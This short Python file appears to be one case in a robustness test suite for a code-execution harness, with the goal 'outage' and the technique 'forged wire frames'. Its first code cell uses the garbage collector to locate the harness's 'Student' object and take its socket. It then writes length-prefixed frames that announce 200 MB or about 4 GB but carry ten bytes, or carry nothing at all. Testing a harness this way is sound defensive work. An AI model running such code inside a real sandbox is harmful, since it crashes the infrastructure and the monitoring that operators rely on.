"""A frame that announces two hundred megabytes and sends ten bytes, one that announces four gigabytes, and one of none."""

GOAL = "outage"
TECHNIQUE = "forged wire frames"
OTTER = "there is no wire"
CELLS = [
    """
import gc, struct
S = next(o for o in gc.get_objects() if type(o).__name__ == 'Student')
def square(x): S.line.sock.sendall(struct.pack('<I', 200_000_000) + b'0123456789')
def double(x): S.line.sock.sendall(struct.pack('<I', 2**32 - 1) + b'0123456789')
def descend(*args): S.line.sock.sendall(struct.pack('<I', 0))
""",
    "square(1)",
]
